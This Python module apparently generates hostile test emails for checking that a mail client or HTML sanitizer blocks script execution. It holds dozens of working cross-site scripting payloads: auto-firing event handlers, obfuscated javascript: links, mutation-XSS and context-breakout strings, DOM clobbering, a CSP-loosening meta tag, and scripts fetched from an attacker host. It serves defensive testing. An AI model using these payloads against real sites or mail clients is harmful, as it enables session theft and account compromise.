"""HTML that tries to run a script."""

from __future__ import annotations

from collections.abc import Callable
from html import escape

from .hostile_mails import html_mail, leaf, mail
from .payload import EVIL, script


def _handlers(name: str) -> str:
    """Each of these fires by itself."""
    js = script(name)
    return f"""<img src=x: onerror="{js}"><video src=x: onerror="{js}"></video>
<audio onloadstart="{js}" src=x:></audio><input autofocus onfocus="{js}">
<details open ontoggle="{js}">open</details><body onload="{js}" onpageshow="{js}">
<style>@keyframes a{{to{{left:1px}}}}</style><b style="animation:a .01s" onanimationstart="{js}"
onanimationend="{js}">b</b><marquee onstart="{js}">m</marquee>
<style onload="{js}">p{{}}</style><object data=x: onerror="{js}"></object>
<i tabindex=1 autofocus onfocus="{js}" onfocusin="{js}">i</i>
<b oncontentvisibilityautostatechange="{js}" style="display:block;content-visibility:auto">c</b>"""


def _touched(name: str) -> str:
    """Each of these waits for the reader's hand."""
    js = script(name)
    events = "click mouseover pointerdown mouseup focus pointermove keydown wheel auxclick".split()
    handlers = " ".join(f'on{event}="{js}"' for event in events)
    return f"""<button {handlers}>Unsubscribe</button><div contenteditable autofocus
onbeforeinput="{js}" oninput="{js}" onpaste="{js}" oncopy="{js}" onselectstart="{js}">Type</div>
<button popovertarget=p>Open</button><div popover id=p onbeforetoggle="{js}">Popped</div>"""


def _links(name: str) -> str:
    js = script(name)
    return f"""<a href="javascript:{js}">one</a> <a href="java&#9;script:{js}">two</a>
<a href="&#1;JaVaScRiPt:{js}" target=_self>three</a>
<svg width=90 height=20><a xlink:href="javascript:{js}"><text y=15>four</text></a></svg>
<math><mtext href="javascript:{js}">five</mtext></math>
<form><button formaction="javascript:{js}">six</button></form>
<svg width=90 height=20><a><animate attributeName=href values="javascript:{js}"/>
<text y=15>seven</text></a></svg>"""


def _mutation(name: str) -> str:
    """Harmless as parsed once, harmful when what a sanitizer wrote is parsed again."""
    image = f"<img src=x: onerror='{script(name)}'>"
    return f"""<noscript><p title="</noscript>{image}"><math><mtext><table><mglyph><style><!--
</style><img title="--&gt;{escape(image)}"></table><form><math><mtext></form><form><mglyph><style>
</math>{image}<svg></p><style><a id="</style>{image}"><svg><style>{escape(image)}</style></svg>
<xmp><p title="</xmp>{image}">"""


def _breakouts(name: str) -> str:
    """Ends whatever it may stand in."""
    tag = f"<script>{script(name)}</script>"
    ends = "iframe textarea title style template noscript xmp script select pre code body html"
    return "".join(f"</{end}>" for end in ends.split()) + f"'\" srcdoc=''>--!>]]>{tag}"


_BODIES: dict[str, Callable[[str], str]] = {
    "script-inline": lambda name: f"<script>{script(name)}</script>",
    "script-source": lambda name: f"<script src={EVIL}/x/{name}.js></script>",
    "script-module": lambda name: (
        f"<script type=module>import '{EVIL}/x/{name}.js'</script>"
        f'<script type=importmap>{{"imports":{{"a":"{EVIL}/x/{name}.js"}}}}</script>'
    ),
    "script-handlers": _handlers,
    "script-touched": _touched,
    "script-links": _links,
    "script-frame": lambda name: f'<iframe src="javascript:{script(name)}"></iframe>',
    "script-srcdoc": lambda name: (
        f'<iframe srcdoc="{escape(f"<script>{script(name)}</script>")}"></iframe>'
    ),
    "script-svg": lambda name: (
        f'<svg onload="{script(name)}"><script>{script(name)}</script>'
        f'<set attributeName=x onbegin="{script(name)}"/></svg>'
    ),
    "script-shadow": lambda name: (
        f"<div><template shadowrootmode=open><script>{script(name)}</script></template></div>"
    ),
    "script-mutation": _mutation,
    "script-breakouts": _breakouts,
    "script-comment": lambda name: f"<!--><script>{script(name)}</script>--><![CDATA[",
    "script-style-breakout": lambda name: (
        f"<style>p{{content:'</style><script>{script(name)}</script>'}}</style>"
    ),
    "script-meta-policy": lambda name: (
        "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">"
        f"<meta name=referrer content=unsafe-url><script>{script(name)}</script>"
    ),
    "script-clobbering": lambda name: (
        "<img name=getElementById><form name=body><input name=children></form>"
        "<a id=config><a id=config name=url href='javascript:0'>"
        f"<script>{script(name)}</script>"
    ),
    "script-after-a-megabyte": lambda name: (
        "<p>" + "padding " * 120_000 + f"<script>{script(name)}</script>"
    ),
}


def _text(name: str) -> str:
    """Plain text whose links, made clickable without care, are more than links."""
    js = script(name)
    return f"""Hello <script>{js}</script> and javascript:{js} and
http://evil.example/link/"onmouseover="{js}"x=" and http://evil.example/link/'><img/src=x:/onerror="{js}">
<http://evil.example/link/</a><svg/onload="{js}">> </pre></textarea><script>{js}</script>"""


SCRIPTS = (
    *(html_mail(name, "script", body(name)) for name, body in _BODIES.items()),
    mail("script-text", "script", leaf("text/plain; charset=utf-8", _text("script-text"))),
)
